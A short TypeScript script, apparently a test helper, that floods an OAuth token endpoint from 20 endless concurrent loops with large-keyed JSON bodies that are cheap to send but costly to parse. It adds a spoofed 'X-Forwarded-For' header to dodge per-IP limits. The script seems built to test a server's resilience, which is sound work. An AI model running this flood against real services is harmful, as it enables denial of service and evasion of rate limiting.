// Somebody elsewhere who sends bodies that are small to send and dear to read, twenty at a time, again and again.
import { setPriority } from 'node:os'

const [url = '', count = ''] = process.argv.slice(2)
const AT_ONCE = 20
const body = Buffer.from(
  JSON.stringify(Object.fromEntries(Array.from({ length: Number(count) }, (_, i) => [`k${i}`, 1]))),
)
const headers = { 'Content-Type': 'application/json', 'X-Forwarded-For': '198.51.100.9' }

// Their work burns their machine, not ours.
setPriority(19)

const send = async (): Promise<never> => {
  for (;;) {
    // The server may hang up before it has heard all of it.
    const reply = await fetch(`${url}/api/auth/oauth/token`, { method: 'POST', headers, body }).catch(() => null)
    await reply?.text().catch(() => null)
  }
}

process.send?.(Number(new URL(url).port))
await Promise.all(Array.from({ length: AT_ONCE }, send))
